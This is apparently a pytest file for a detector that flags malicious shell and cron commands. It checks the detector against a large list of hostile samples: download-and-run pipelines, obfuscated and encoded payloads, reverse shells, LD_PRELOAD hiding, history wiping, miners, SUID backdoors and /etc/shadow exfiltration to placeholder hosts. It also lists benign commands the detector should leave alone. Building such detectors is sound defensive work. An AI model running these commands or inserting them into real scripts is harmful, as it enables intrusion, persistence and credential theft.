"""What the judge of shell commands points at, and what it leaves alone.

Addresses are those kept for documentation (RFC 5737, RFC 2606); the commands are only read.
"""

# ruff: noqa: E501 - a command stands on one line, as it would in a crontab

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.shell.command import INPUT_LENGTH, MARKS, Judged, judge

SURE = 0.6

POINTS_AT = {
    "downloads-and-runs": [
        "curl -fsSL http://a.example/x | bash",
        "wget -qO- http://a.example/x|sh",
        "wget -qO- http://a.example/x |\n  # then\n\n sh",
        "cd /tmp && curl http://a.example/x | sudo sh",
        'bash -c "$(curl -fsSL http://a.example/x)"',
        "sh -c '`wget -qO- http://a.example/x`'",
        "bash <(curl -s http://a.example/x)",
        "source <(curl -s http://a.example/x)",
        ". <(wget -qO- http://a.example/x)",
        "eval $(curl -s http://a.example/x)",
        "wget http://a.example/x.sh -O /var/lib/x; sh /var/lib/x",
        "curl -o /opt/m http://a.example/m; chmod +x /opt/m; /opt/m",
        "wget -q http://a.example/kit && chmod 777 kit && ./kit",
        "cd /opt; curl -O http://a.example/k.pl; perl k.pl; rm -f k.pl",
        'c\\url -s http://a.example/x | b""ash',
        "a=cu;b=rl;$a$b -s http://a.example/x|sh",
        "curl${IFS}-s${IFS}http://a.example/x|sh",
        "{curl,-s,http://a.example/x}|{bash,-s}",
        "(curl -s http://a.example/x||wget -q -O- http://a.example/x)|bash -sh",
        'x=$(curl -s http://a.example/x); eval "$x"',
        "curl -s http://a.example/x | base64 -d | sh",
        "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://a.example/x\").read())'",
        "perl -MLWP::Simple -e 'eval get(\"http://a.example/x\")'; perl -e 'use LWP::Simple; eval get(\"http://x\")'",
        "php -r 'eval(file_get_contents(\"http://a.example/x\"));'",
        "lwp-request http://a.example/x | perl",
        "curl -s http://a.example/x | python3 -",
        "curl -s http://a.example/x | xargs -I{} sh -c {}",
        "nohup /usr/bin/curl -s http://a.example/x 2>/dev/null | /bin/bash >/dev/null 2>&1 &",
        "/usr/bin/.cur1 -fsSL http://a.example/x | sh",
        "curl http://a.example/x | tee /var/x | sh",
        "curl http://a.example/x > /var/lib/y && bash /var/lib/y",
        "dig +short txt a.example | sh",
        "curl http://a.example/cron | crontab -",
        "/bin/sh -c 'wget http://a.example/x -O- | sh'",
        "curl -sSL http://a.example/x | while read l; do echo $l; done | sh",
        "if true; then curl http://a.example/x | sh; fi",
        'echo "curl http://a.example/x | sh" | at now',
        'timeout 60 bash -c "curl -s http://a.example/x | bash"',
        'su - www-data -c "curl -s http://a.example/x | bash"',
        "/usr/bin/c?rl -s http://a.example/x | /bin/b?sh",
        "$'\\x63\\x75\\x72\\x6c' http://a.example/x | sh",
        "wget$IFS$9-qO-$IFS$9http://a.example/x|sh",
        "cd /opt; wget http://a.example/k.tgz; tar xzf k.tgz; cd k; ./run",
        "cu$@rl http://a.example/x | sh",
    ],
    "decodes-and-runs": [
        "echo Y3VybAo= | base64 -d | bash",
        'bash -c "$(base64 -d <<< Y3VybAo=)"',
        'bash <<< "$(echo Y3VybAo=|base64 --decode)"',
        'eval "`echo Y3VybAo= | openssl enc -d -base64`"',
        "echo 6375 | xxd -r -p | sh",
        "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0'))\"",
        "perl -e 'eval unpack u=>q{_=7-E(%-O}'",
        "printf '\\x63\\x75\\x72\\x6c' | sh",
        "echo 'hs|x lruc' | rev | bash",
        "echo Y3VybAo= | base64 -d > /var/lib/x; sh /var/lib/x",
        "php -r \"eval(base64_decode('cGhwaW5mbygpOw=='));\"",
        "echo phey | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        "x=$(echo Y3VybAo= | base64 -d);eval $x",
        "tail -n +5 $0 | gunzip | sh",
    ],
    "connects-back": [
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
        "nc -e /bin/sh 192.0.2.7 4444",
        "ncat 192.0.2.7 4444 --exec /bin/bash",
        "nc.traditional -lvpe 4444 /bin/sh",
        "nc 192.0.2.7 4444 -c /bin/bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
        "socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty,stderr",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\'',
        'perl -e \'use Socket;$i="192.0.2.7";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");\'',
        'php -r \'$s=fsockopen("192.0.2.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("192.0.2.7",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/s",
        "exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "telnet 192.0.2.7 4444 | /bin/bash | telnet 192.0.2.7 4445",
        "nc 192.0.2.7 4444 | sh",
        'GS_ARGS="-s x -liqD" /usr/bin/defunct',
        "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196",
        "awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.7/4444\";while(1){s |& getline c;while((c |& getline l)>0)print l |& s; system(c)}}'",
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('192.0.2.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
        'setsid nohup bash -c "bash -i >& /dev/tcp/192.0.2.7/53 0>&1" &',
        "sh -i >& /dev/udp/192.0.2.7/4242 0>&1",
    ],
    "runs-from-writable": [
        "/tmp/.x/kinsing",
        "/dev/shm/a",
        "/tmp/a | logger",
        "function f ( /tmp/x | cat )",
        "case x in $(/tmp/x)|b) :;; esac",
        "cd /tmp && ./x",
        "sh /var/tmp/u.sh >/dev/null 2>&1",
        "/var/lib/.cache/x",
        "perl /tmp/ssh.pl",
        "[ -x /run/user/1000/k ] && /run/user/1000/k",
        "nohup /var/tmp/.sys/d &",
        ". /tmp/env",
        "D=/var/tmp; $D/run",
        "/usr/bin/../../tmp/x",
        "php -q /dev/shm/m.php",
        "cat /tmp/x | sh",
        "sh < /tmp/x",
        "/lib64/ld-linux-x86-64.so.2 /tmp/x",
        "insmod /tmp/a.ko",
        "~/.xyz/run",
        "find /tmp -name x -exec /tmp/x \\;",
        "start-stop-daemon --start --exec /tmp/x -- -d",
        "python -c 'import os;os.system(\"/tmp/x\")'",
        "trap '/tmp/x' EXIT",
        "PROMPT_COMMAND='/tmp/x'",
        "alias sudo='/tmp/.s/sudo'",
    ],
    "preloads": [
        "export LD_PRELOAD=/usr/lib/libprocesshider.so",
        "LD_PRELOAD=/tmp/x.so ls",
        "env LD_AUDIT=/x.so sshd",
        "echo /lib/x.so > /etc/ld.so.preload",
        "setenv LD_PRELOAD /x.so",
    ],
    "hides-traces": [
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "HISTSIZE=0",
        "history -c",
        "set +o history",
        "chattr +i /tmp/.x/a",
        "exec -a '[kworker/0:0]' /usr/bin/x",
        "rm -f ~/.bash_history",
        "> /var/log/wtmp",
        "ln -sf /dev/null ~/.bash_history",
    ],
    "mines": [
        "/usr/bin/kswapd0 -o stratum+tcp://pool.example:3333 -u x",
        "./xmrig --donate-level 1 -o pool.example:443",
    ],
    "opens-tunnel": [
        "autossh -M 0 -f -N -R 2222:localhost:22 u@192.0.2.7",
        "ssh -fNR 2222:localhost:22 u@192.0.2.7",
        "frpc -c /etc/frpc.ini",
    ],
    "grants-access": [
        "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys",
        "chmod u+s /bin/bash",
        "cp /bin/sh /tmp/s; chmod 4755 /tmp/s",
        "useradd -o -u 0 x",
    ],
    "stays": [
        "echo '* * * * * root /x' > /etc/cron.d/x",
    ],
    "sends-away": [
        "curl -F f=@/etc/shadow https://a.example",
        "cat /etc/shadow | nc 192.0.2.7 80",
    ],
}

LEAVES_ALONE = [
    "curl -o /var/backups/list https://x; sh /opt/report.sh",
    "curl -fsS https://hc-ping.example/uuid >/dev/null",
    "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.example/uuid",
    "/usr/bin/certbot -q renew",
    "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "cd / && run-parts --report /etc/cron.hourly",
    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    '/root/.acme.sh/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
    '"/root/.acme.sh"/acme.sh --cron',
    "php /var/www/html/wp-cron.php >/dev/null 2>&1",
    "wget -q -O - https://site.example/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
    "mysqldump --all-databases | gzip > /var/backups/db.sql.gz",
    "find /tmp -type f -mtime +7 -delete",
    "curl -s https://api.example/x | jq .name",
    "curl -s https://api.example/x | python3 -m json.tool",
    "curl -s https://api.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
    "zcat /var/backups/db.sql.gz | mysql app",
    "echo aGk= | base64 -d > /etc/app/token",
    "timeout 1 bash -c '</dev/tcp/127.0.0.1/3306'",
    "rsync -a /srv/ backup@host:/srv/",
    "rm -rf /tmp/build",
    "# first run /tmp/build/configure\nmake -C /srv/build",
    ": <<'DOC'\n/tmp/build/configure && make\nDOC",
    "echo 'then run /tmp/build/configure'",
    "case $1 in\n  (/tmp/a|/tmp/b)\n    ls ;;\n  (/tmp/c) ls ;;\nesac",
    "cp /tmp/report.csv /srv/reports/",
    "ps aux | grep xmrig | grep -v grep",
    "export HISTCONTROL=ignoreboth",
    "HISTSIZE=1000",
    'eval "$(dircolors -b)"',
    'eval "`ssh-agent -s`"',
    "[ -r ~/.bashrc ] && . ~/.bashrc",
    '. "$HOME/.cargo/env"',
    '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    "ssh backup@host 'tar czf - /srv' > /var/backups/x.tgz",
    "/usr/bin/flock -n /tmp/app.lock /usr/bin/php /srv/app/artisan schedule:run",
    "flock -xn /tmp/stor.lock -c '/usr/bin/bash /opt/agent/start.sh'",
    "wget -q https://lists.example/x.txt -O /etc/blocklist && systemctl reload nginx",
    "curl -s https://lists.example/ips.txt | while read ip; do ipset add b $ip; done",
    "tr a-z A-Z < /etc/x | mail -s x root",
    "LD_PRELOAD= /usr/bin/x",
    "unset LD_PRELOAD",
    "sh -c 'echo $(curl -s https://ip.example) >> /var/log/ip.log'",
    "printf '\\033[1m%s\\033[0m\\n' hello",
    "nc -z localhost 25",
    "nc -zv db 3306",
    # from maintainer scripts and init scripts of distributions
    'case "$1" in /dev/*) echo no;; esac',
    'case "$1" in /dev/a|/dev/nbd*|/dev/etherd/e*) echo no;; esac',
    'case "$1" in\n/dev/nbd*|/dev/etherd/e*)\necho no;;\nesac',
    "/dev/nbd*|/dev/nd[a-z]*|/dev/etherd/e*|curlftpfs*)",
    "[ -e ~/.selected_editor ] && . ~/.selected_editor",
    'cat > "$DPKG_ROOT/etc/passwd" <<EOF',
    "sed 's/a/b/' /etc/init.d/a > /etc/init.d/b",
    "files=$(sed -n '/^\\/usr\\/lib/p' /var/lib/x); python3 /usr/lib/compile.py $files",
    "",
    "# curl http://a.example/x | sh",
    "echo 'curl http://a.example/x | sh'",
    'logger "do not run curl http://a.example/x | sh"',
]


@pytest.mark.parametrize(
    ("mark", "command"), [(m, c) for m, commands in POINTS_AT.items() for c in commands]
)
def test_points_at(mark, command):
    assert [j for j in judge(command) if j.mark == mark and j.confidence >= SURE], judge(command)


@pytest.mark.parametrize("command", LEAVES_ALONE)
def test_leaves_alone(command):
    assert [j for j in judge(command) if j.confidence >= SURE] == []


def test_every_mark_has_an_example():
    assert set(POINTS_AT) == set(MARKS)


def test_says_what_and_why():
    (judged,) = judge("true\ncurl -s http://a.example/x | sh")
    assert judged == Judged(
        "downloads-and-runs",
        "what curl fetches is run by sh",
        "curl -s http://a.example/x | sh",
        0.95,
        2,
    )


def test_a_script_is_judged_as_a_whole():
    script = "cd /var/tmp\nU=http://a.example\nwget -q $U/kit\nchmod +x kit\n./kit -d\n"
    assert {(j.mark, j.line) for j in judge(script)} == {
        ("downloads-and-runs", 4),
        ("downloads-and-runs", 5),
        ("runs-from-writable", 5),
    }


def test_a_here_document_is_text():
    assert judge("cat > /etc/motd <<EOF\ncurl http://a.example/x | sh\nEOF\n") == ()


def test_what_cron_gives_as_input_is_code_for_a_shell_only():
    assert judge("sh", "curl http://a.example/x | sh")
    assert judge("mail -s report root", "curl http://a.example/x | sh") == ()


def test_only_the_beginning_of_an_endless_text_is_read():
    assert judge("true;" * INPUT_LENGTH + "curl http://a.example/x|sh") == ()


@given(st.text())
def test_any_text_is_judged(text):
    for judged in judge(text):
        assert judged.mark in MARKS
        assert 0 < judged.confidence <= 1


_PIECES = ["$(", ")", "`", "${", "}", "'", '"', "\\", "|", ";", "\n", "<<", "<(", "((", "if ", "fi"]
_PIECES += [
    "case ",
    "esac",
    "{ ",
    "x=",
    "$x",
    " ",
    "#",
    "<",
    ">",
    "sh",
    "curl ",
    "eval ",
    "-c ",
    "&",
]


@given(st.lists(st.sampled_from(_PIECES)).map("".join))
def test_any_syntax_is_judged(text):
    for judged in judge(text):
        assert judged.mark in MARKS


@pytest.mark.parametrize("piece", ["$(", "`", "(", "{ ", "if ", "a|", "sh|", "a=$a$a;", "${"])
def test_deep_and_repeated_input_ends(piece):
    assert len(judge(piece * (INPUT_LENGTH // len(piece)))) <= len(MARKS)
